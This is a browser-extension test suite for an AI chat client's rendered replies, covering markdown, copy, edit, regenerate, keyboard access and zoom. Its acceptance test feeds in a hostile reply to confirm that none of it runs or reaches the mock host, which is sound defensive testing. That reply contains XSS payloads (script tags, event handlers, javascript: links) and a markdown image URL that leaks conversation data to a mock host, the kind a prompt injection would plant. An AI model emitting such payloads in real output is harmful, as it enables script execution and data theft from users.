// Rendered replies and message actions in Chromium: markdown with highlighted code, copy,
// regenerate, edit, keyboard-only use, 200% zoom, and the acceptance test for untrusted output
// (nothing in a reply executes, no request leaves for an image host).
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import type { Page } from 'playwright-core';
import { launchExtension, PAGES, screenshotPath, type ExtensionHarness } from './harness';
import { expectAssistant, lastAssistant, sendMessage, setSettings } from './chat-helpers';
import {
  startControlledStreamServer,
  type ControlledStreamServer,
} from '../mock-servers/controlled-stream';
import { startServer, type MockServer } from '../mock-servers/server';

let harness: ExtensionHarness;
let server: ControlledStreamServer;
/** Stands for any host a prompt injection could name: it must never hear from us. */
let imageHost: MockServer;

beforeAll(async () => {
  server = await startControlledStreamServer();
  imageHost = await startServer((_request, response) => {
    response.writeHead(200, { 'content-type': 'image/png' }).end();
  });
  harness = await launchExtension();
  // Chromium grants clipboard permissions to http origins only (an extension's is "opaque" to
  // it): the clipboard is read back from a page on the mock server, which shares it.
  await harness.context.grantPermissions(['clipboard-read', 'clipboard-write'], {
    origin: server.url,
  });
  const page = await harness.openPage(PAGES.options);
  await setSettings(page, {
    defaultProviderId: 'acytoo',
    providers: { acytoo: { baseUrl: server.url } },
  });
  await page.close();
});
afterAll(async () => {
  await harness?.close();
  await server?.close();
  await imageHost?.close();
});
afterEach(async () => {
  await harness.closeExtensionPages();
  for (const handle of server.handles) if (!handle.ended) handle.end();
});

async function newChat(path: string = PAGES.popup): Promise<Page> {
  const page = await harness.openPage(path);
  await page.getByTestId('new-chat-button').click();
  return page;
}

/** Sends `text` and answers it with `reply` in a few network writes. */
async function answer(page: Page, text: string, reply: string): Promise<void> {
  await sendMessage(page, text);
  const stream = await server.nextStream();
  for (let i = 0; i < reply.length; i += 40) stream.write(reply.slice(i, i + 40));
  stream.end();
  await expect.poll(() => lastAssistant(page).getAttribute('data-status')).toBe('done');
}

async function clipboard(): Promise<string> {
  const reader = await harness.context.newPage();
  try {
    await reader.goto(`${server.url}/clipboard`);
    await reader.bringToFront();
    return await reader.evaluate(() => navigator.clipboard.readText());
  } finally {
    await reader.close();
  }
}

const CODE_REPLY = [
  'Here is the fix:',
  '',
  '```ts',
  'export function add(a: number, b: number): number {',
  '  return a + b; // sum',
  '}',
  '```',
  '',
  '| case | result |',
  '|---|---|',
  '| `add(1, 2)` | **3** |',
  '',
  '- [x] tested',
  '- ~~slow~~ fast',
].join('\n');

describe('replies as markdown', () => {
  it('renders markdown with a highlighted code block, and copies the code', async () => {
    const popup = await newChat();
    await answer(popup, 'Fix add()', CODE_REPLY);
    const reply = lastAssistant(popup).getByTestId('message-text');
    await expect.poll(() => reply.locator('pre code.hljs').count()).toBe(1);
    expect(await reply.locator('pre code .hljs-keyword').first().textContent()).toBe('export');
    expect(await reply.locator('pre').getAttribute('data-lang')).toBe('ts');
    expect(await reply.locator('table td strong').textContent()).toBe('3');
    expect(await reply.locator('input[type="checkbox"]').isDisabled()).toBe(true);
    expect(await reply.locator('del').textContent()).toBe('slow');
    // The code's text is exactly the code; the button's label is not part of it.
    expect(await reply.locator('pre code').textContent()).toBe(
      'export function add(a: number, b: number): number {\n  return a + b; // sum\n}',
    );
    await reply.getByTestId('code-copy-button').click();
    await expect
      .poll(() => clipboard())
      .toBe('export function add(a: number, b: number): number {\n  return a + b; // sum\n}');
    await expect
      .poll(() => reply.getByTestId('code-copy-button').getAttribute('aria-label'))
      .toBe('Copied');
    await popup.screenshot({ path: screenshotPath('popup-markdown.png') });
  });

  it.each([
    ['popup', PAGES.popup, undefined],
    ['full page', PAGES.app, { width: 1280, height: 800 }],
  ] as const)(
    'streams a long table in the %s with its columns in place, and ends as one table',
    async (name, path, viewport) => {
      const page = await harness.openPage(path);
      if (viewport) await page.setViewportSize(viewport);
      await page.getByTestId('new-chat-button').click();
      await sendMessage(page, 'Status of every job?');
      const stream = await server.nextStream();
      let text = 'Every job:\n\n| # | job | status | notes |\n|--:|-----|:------:|-------|\n';
      for (let i = 0; i < 150; i++)
        text += `| ${i} | job-${i} | ${i % 3 ? 'ok' : '**failed**'} | retried ${i % 5} times, see \`log/${i}\` |\n`;
      // All but the last row's end: the table is still streaming.
      for (let i = 0; i < text.length - 20; i += 400)
        stream.write(text.slice(i, Math.min(i + 400, text.length - 20)));
      const reply = lastAssistant(page).getByTestId('message-text');
      const rows = reply.locator('.md-table-part > tbody > tr');
      await expect.poll(() => rows.count()).toBe(150);
      // Stacked tables while it streams; their columns line up (the same left edges in every
      // row), and the header is shown once.
      const edges = (selector: string) =>
        reply.evaluate(
          (root, s) =>
            [...root.querySelectorAll(s)].map((row) =>
              [...row.children].map((cell) => Math.round(cell.getBoundingClientRect().left)),
            ),
          selector,
        );
      await expect.poll(() => reply.locator('table.md-table-part').count()).toBeGreaterThan(3);
      const streamed = await edges('.md-table-part tr');
      expect(new Set(streamed.map((row) => row.join()))).toEqual(new Set([streamed[0]!.join()]));
      expect(await reply.locator('thead:visible').count()).toBe(1);
      const slug = name.replace(' ', '-');
      await page.screenshot({ path: screenshotPath(`${slug}-table-streaming.png`) });
      await page.emulateMedia({ colorScheme: 'dark' });
      await page.screenshot({ path: screenshotPath(`${slug}-table-streaming-dark.png`) });
      await page.emulateMedia({ colorScheme: 'light' });

      stream.write(text.slice(-20));
      stream.end();
      await expect.poll(() => lastAssistant(page).getAttribute('data-status')).toBe('done');
      // Finished: one table, every row, the streaming tables gone, drawn in slices.
      await expect.poll(() => reply.locator('[aria-busy]').count()).toBe(0);
      expect(await reply.locator('table').count()).toBe(1);
      expect(await reply.locator('table > tbody > tr').count()).toBe(150);
      expect(await reply.locator('.md-table-stream').count()).toBe(0);
      // The finished table's columns are where the streamed ones were (within a pixel or two).
      const done = await edges('table tr');
      for (const [i, edge] of done[0]!.entries())
        expect(Math.abs(edge - streamed[0]![i]!)).toBeLessThanOrEqual(2);
      await page.screenshot({ path: screenshotPath(`${slug}-table-done.png`) });
      await page.emulateMedia({ colorScheme: 'dark' });
      await page.screenshot({ path: screenshotPath(`${slug}-table-done-dark.png`) });
    },
  );

  it('copies a whole reply as its markdown source', async () => {
    const popup = await newChat();
    await answer(popup, 'Bold?', 'Yes, **bold** and `code`.');
    await lastAssistant(popup).getByTestId('copy-button').click();
    await expect.poll(() => clipboard()).toBe('Yes, **bold** and `code`.');
  });

  it('regenerates the last reply from the same history', async () => {
    const popup = await newChat();
    await answer(popup, 'Pick a number', 'Seven.');
    await lastAssistant(popup).getByTestId('regenerate-button').click();
    const again = await server.nextStream();
    expect(JSON.parse(again.request.body).messages).toEqual([
      { role: 'user', content: 'Pick a number' },
    ]);
    again.write('Four.');
    again.end();
    await expectAssistant(popup, 'done', 'Four.');
    await expect(popup.getByTestId('message').count()).resolves.toBe(2);
  });

  it('edits a sent message: the edited turn replaces what followed', async () => {
    const popup = await newChat();
    await answer(popup, 'Capital of France?', 'Paris.');
    await answer(popup, 'And of Spain?', 'Madrid.');
    const first = popup.locator('[data-testid="message"][data-role="user"]').first();
    await first.getByTestId('edit-button').click();
    await first.getByTestId('edit-input').fill('Capital of Italy?');
    await first.getByTestId('edit-input').press('Enter');
    const stream = await server.nextStream();
    expect(JSON.parse(stream.request.body).messages).toEqual([
      { role: 'user', content: 'Capital of Italy?' },
    ]);
    stream.write('Rome.');
    stream.end();
    await expectAssistant(popup, 'done', 'Rome.');
    const texts = await popup.getByTestId('message-text').allTextContents();
    expect(texts).toEqual(['Capital of Italy?', 'Rome.']);
  });
});

describe('untrusted output (acceptance)', () => {
  it('executes nothing from a reply and sends nothing to the image host', async () => {
    const host = imageHost.url;
    const hostile = [
      `<script>window.__pwned = 'script'; fetch('${host}/script')</script>`,
      '',
      `Inline <img src="${host}/inline.png" onerror="window.__pwned='onerror'"> and <b onmouseover="window.__pwned='hover'">bold</b>.`,
      '',
      `[click me](javascript:window.__pwned='link') [data](data:text/html,<script>alert(1)</script>)`,
      '',
      `![tracker](${host}/track.png?leak=secret-conversation)`,
      '',
      `<iframe src="${host}/frame"></iframe>`,
      '',
      `<svg onload="window.__pwned='svg'"><image href="${host}/svg.png"/></svg>`,
      '',
      `<style>body { background: url(${host}/bg.png) }</style>`,
      '',
      `<video poster="${host}/poster.png" src="${host}/v.mp4"></video><link rel="stylesheet" href="${host}/x.css">`,
      '',
      `<form action="${host}/form"><input name="q" value="x"><button>go</button></form>`,
    ].join('\n');
    const dialogs: string[] = [];
    const popup = await newChat();
    popup.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    const errorsBefore = harness.consoleErrors.length;
    await answer(popup, 'Summarise this page', hostile);
    const reply = lastAssistant(popup).getByTestId('message-text');
    // Give anything that could fire (onerror, onload, a late image request) the time to.
    await popup.waitForTimeout(1_500);

    expect(await popup.evaluate(() => (window as { __pwned?: unknown }).__pwned)).toBeUndefined();
    expect(dialogs).toEqual([]);
    expect(imageHost.requests).toEqual([]);
    // Nothing from the reply became an element that can load or run anything.
    for (const tag of ['script', 'img', 'iframe', 'svg', 'style', 'video', 'link', 'form', 'image'])
      expect(await reply.locator(tag).count(), tag).toBe(0);
    const handlers = await reply.evaluate((root) =>
      [...root.querySelectorAll('*')].flatMap((el) =>
        [...el.attributes].filter((a) => /^on/i.test(a.name)).map((a) => a.name),
      ),
    );
    expect(handlers).toEqual([]);
    // The image is a link showing its URL; the javascript: and data: links are plain words.
    const links = await reply
      .locator('a')
      .evaluateAll((anchors) =>
        anchors.map((a) => [a.getAttribute('href'), a.textContent, a.getAttribute('rel')]),
      );
    expect(links).toEqual([
      [
        `${host}/track.png?leak=secret-conversation`,
        `${host}/track.png?leak=secret-conversation`,
        'noopener noreferrer',
      ],
    ]);
    expect(await reply.textContent()).toContain('<script>window.__pwned');
    await reply.getByText('click me').click();
    await popup.waitForTimeout(300);
    expect(await popup.evaluate(() => (window as { __pwned?: unknown }).__pwned)).toBeUndefined();
    // Not even a CSP violation: nothing tried to run.
    expect(harness.consoleErrors.slice(errorsBefore)).toEqual([]);
    expect(imageHost.requests).toEqual([]);
  });
});

describe('keyboard and accessibility', () => {
  it('works by keyboard alone: focus in the composer, send, Esc stops, Up edits, Ctrl+K', async () => {
    const popup = await harness.openPage(PAGES.popup);
    await expect
      .poll(() => popup.evaluate(() => document.activeElement?.getAttribute('data-testid')))
      .toBe('composer-input');
    // The popup reopens the last conversation (earlier tests made some); wait for it, so Ctrl+K
    // is tested against a real conversation rather than racing its arrival.
    await expect.poll(() => popup.getByTestId('message').count()).toBeGreaterThan(0);
    await popup.keyboard.press('Control+K');
    await expect.poll(() => popup.getByTestId('message').count()).toBe(0);
    await popup.keyboard.type('Count to ten');
    await popup.keyboard.press('Enter');
    const stream = await server.nextStream();
    stream.write('one, two, ');
    await expectAssistant(popup, 'streaming', 'one, two, ');
    await popup.keyboard.press('Escape');
    await expectAssistant(popup, 'stopped', 'one, two, ');
    await stream.closed;

    // Up in the empty composer edits the last message; Enter sends the edit.
    await popup.keyboard.press('ArrowUp');
    await expect
      .poll(() => popup.evaluate(() => document.activeElement?.getAttribute('data-testid')))
      .toBe('edit-input');
    await popup.keyboard.press('Control+A');
    await popup.keyboard.type('Count to three');
    await popup.keyboard.press('Enter');
    const edited = await server.nextStream();
    expect(JSON.parse(edited.request.body).messages).toEqual([
      { role: 'user', content: 'Count to three' },
    ]);
    edited.write('one, two, three');
    edited.end();
    await expectAssistant(popup, 'done', 'one, two, three');

    // Tab reaches the message actions, with a visible focus ring.
    const reachable: string[] = [];
    // The toolbar (provider, new chat, history, temporary, side panel, settings), the message
    // list (scrollable by keys), then the messages' actions; it stops there, so the focus never
    // leaves the page for the browser's own UI (where Ctrl+K would not reach the page).
    for (let i = 0; i < 20 && !reachable.includes('regenerate-button'); i++) {
      await popup.keyboard.press('Tab');
      const focused = await popup.evaluate(() => {
        const el = document.activeElement as HTMLElement | null;
        return {
          id: el?.getAttribute('data-testid') ?? el?.tagName ?? '',
          outline: el ? getComputedStyle(el).outlineStyle : 'none',
          // The accessible name, roughly: aria-label, else a <label>, else the text.
          name:
            el?.getAttribute('aria-label') ??
            ((el as HTMLInputElement | null)?.labels?.[0]?.textContent || el?.textContent) ??
            '',
        };
      });
      // Past the last control, focus leaves the page for the browser's own UI.
      if (focused.id === 'BODY') continue;
      reachable.push(focused.id);
      expect(focused.outline, focused.id).not.toBe('none');
      expect(focused.name.trim(), focused.id).not.toBe('');
    }
    console.log('tab order', reachable.join(' → '));
    expect(reachable).toEqual(expect.arrayContaining(['copy-button', 'regenerate-button']));

    await popup.keyboard.press('Control+K');
    await expect.poll(() => popup.getByTestId('message').count()).toBe(0);
    // The composer takes the focus back once the focused action is gone (composer.tsx, a frame on).
    await expect
      .poll(() => popup.evaluate(() => document.activeElement?.getAttribute('data-testid')))
      .toBe('composer-input');
  });

  it('stays usable at 200% zoom in a narrow side panel', async () => {
    const panel = await harness.openPage(PAGES.sidepanel);
    // A 400-pixel side panel at 200% zoom is a 200 CSS-pixel layout viewport.
    await panel.setViewportSize({ width: 200, height: 450 });
    await panel.getByTestId('new-chat-button').click();
    await answer(panel, 'Show code', CODE_REPLY);
    const overflow = await panel.evaluate(
      () => document.documentElement.scrollWidth - document.documentElement.clientWidth,
    );
    expect(overflow).toBeLessThanOrEqual(0);
    for (const id of ['composer-input', 'send-button', 'new-chat-button', 'provider-select'])
      expect(await panel.getByTestId(id).isVisible(), id).toBe(true);
    await panel.screenshot({ path: screenshotPath('sidepanel-zoom-200.png') });
  });

  it('declares the side-panel shortcut', async () => {
    const page = await harness.openPage(PAGES.popup);
    const commands = await page.evaluate(() => chrome.commands.getAll());
    expect(commands.find((c) => c.name === 'open-side-panel')).toMatchObject({
      description: 'Open the Parley side panel',
    });
  });
});

describe('screenshots', () => {
  it('side panel with a long markdown reply and code', async () => {
    const panel = await harness.openPage(PAGES.sidepanel);
    await panel.setViewportSize({ width: 420, height: 900 });
    await panel.getByTestId('new-chat-button').click();
    await answer(
      panel,
      'How do I retry a flaky request in TypeScript and Python?',
      [
        '## Retrying with backoff',
        '',
        'Wrap the call, catch **only** the errors worth retrying, and wait a little longer each time. See [MDN on `fetch`](https://developer.mozilla.org/docs/Web/API/fetch).',
        '',
        '```ts',
        'export async function retry<T>(fn: () => Promise<T>, attempts = 3): Promise<T> {',
        '  for (let n = 1; ; n++) {',
        '    try {',
        '      return await fn();',
        '    } catch (error) {',
        '      if (n >= attempts) throw error;',
        '      await new Promise((r) => setTimeout(r, 2 ** n * 100)); // backoff',
        '    }',
        '  }',
        '}',
        '```',
        '',
        'The same in Python:',
        '',
        '```python',
        'import time',
        '',
        'def retry(fn, attempts=3):',
        '    for n in range(1, attempts + 1):',
        '        try:',
        '            return fn()',
        '        except TimeoutError:',
        '            if n == attempts:',
        '                raise',
        '            time.sleep(2 ** n / 10)',
        '```',
        '',
        '| attempt | wait |',
        '|---:|---|',
        '| 1 | 200 ms |',
        '| 2 | 400 ms |',
        '',
        '> Retry only idempotent requests.',
        '',
        '- [x] timeouts',
        '- [ ] ~~every~~ 4xx error',
      ].join('\n'),
    );
    await expect.poll(() => panel.locator('code.hljs').count()).toBe(2);
    const png = await panel.screenshot({ path: screenshotPath('sidepanel-markdown.png') });
    expect(png.byteLength).toBeGreaterThan(10_000);
    // The code palette has a dark variant that follows the theme.
    const keyword = () =>
      panel
        .locator('code.hljs .hljs-keyword')
        .first()
        .evaluate((el) => getComputedStyle(el).color);
    const light = await keyword();
    await panel.emulateMedia({ colorScheme: 'dark' });
    await expect.poll(keyword).not.toBe(light);
    await panel.screenshot({ path: screenshotPath('sidepanel-markdown-dark.png') });
  });
});
